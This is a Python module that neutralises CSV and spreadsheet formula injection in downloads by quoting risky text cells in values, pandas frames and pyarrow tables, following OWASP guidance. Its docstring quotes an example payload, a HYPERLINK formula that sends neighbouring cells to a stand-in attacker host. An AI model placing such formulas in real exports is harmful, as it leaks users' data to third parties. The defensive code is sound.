"""Cells that cannot attack the person who opens a download in a spreadsheet (CSV or formula injection).

A spreadsheet opening a CSV file (or a careless Excel writer) treats a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula, and a leading tab or carriage return can hide one: a source name such as
``=HYPERLINK("http://evil.example/?d="&A2,"x")`` becomes a live link that sends the neighbouring cells away.
Following the OWASP guidance on CSV injection, every *text* cell that starts with one of those characters
(or their full-width forms, which some spreadsheets also read as formulas) gets a single quote in front,
so the spreadsheet shows it as text. Numbers, dates, booleans and empty cells are left as they are: a
negative number stays a number. Text that is nothing but a number ("-12.5") is left too: a spreadsheet
reads it as that number, which cannot run anything.

Every download and export goes through here: `safe_cell` for a single value, `safe_frame` for a pandas
frame, `safe_arrow` for a pyarrow table. Excel writers also write every text cell as text (never as a
formula); see uptake.web.tables.files.to_xlsx.
"""

from __future__ import annotations

import re
from typing import Any

#: The first characters that make a spreadsheet read a cell as a formula (OWASP: = + - @ tab carriage
#: return), with the full-width equals, plus, minus and at sign.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")

#: Text that is only a number, e.g. "-12.5" or "+3e-4": read by a spreadsheet as that number.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

#: The same two rules as regular expressions for pyarrow (RE2 syntax).
_RISKY_START_RE2 = "^[=+\\-@\t\r\uff1d\uff0b\uff0d\uff20]"
_PLAIN_NUMBER_RE2 = "^[+-]?(?:[0-9]+(?:\\.[0-9]*)?|\\.[0-9]+)(?:[eE][+-]?[0-9]+)?$"

#: What goes in front of a risky cell.
PREFIX = "'"

# numpy dtype kinds that hold no text: bool, integers, floats, complex, datetimes, timedeltas
_NOT_TEXT_KINDS = frozenset("biufcmM")


def is_risky(text: str) -> bool:
    """Whether a spreadsheet could read this text as a formula."""
    return bool(text) and text[0] in FORMULA_STARTS and _PLAIN_NUMBER.fullmatch(text) is None


def safe_text(text: str) -> str:
    """The text, with a single quote in front if a spreadsheet could read it as a formula."""
    return PREFIX + text if is_risky(text) else text


def safe_cell(value: Any) -> Any:
    """A cell value for a download: text made safe (`safe_text`); any other value unchanged."""
    return safe_text(value) if isinstance(value, str) else value


def safe_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame whose text cells are safe (numeric, boolean and date columns untouched)."""
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if series.dtype.kind in _NOT_TEXT_KINDS:
            continue
        out[column] = series.map(safe_cell)
    return out


def safe_arrow(table: Any) -> Any:
    """A pyarrow Table whose string columns are safe (other columns untouched)."""
    # deferred: pyarrow is heavy; only the callers that already hold a pyarrow table need it
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for column in table.columns:
        if pa.types.is_dictionary(column.type) and pa.types.is_string(column.type.value_type):
            column = column.cast(pa.string())
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            risky = pc.and_(pc.match_substring_regex(column, _RISKY_START_RE2),
                            pc.invert(pc.match_substring_regex(column, _PLAIN_NUMBER_RE2)))
            column = pc.if_else(risky, pc.utf8_replace_slice(column, 0, 0, PREFIX), column)
        columns.append(column)
    return pa.Table.from_arrays(columns, schema=None, names=table.column_names)
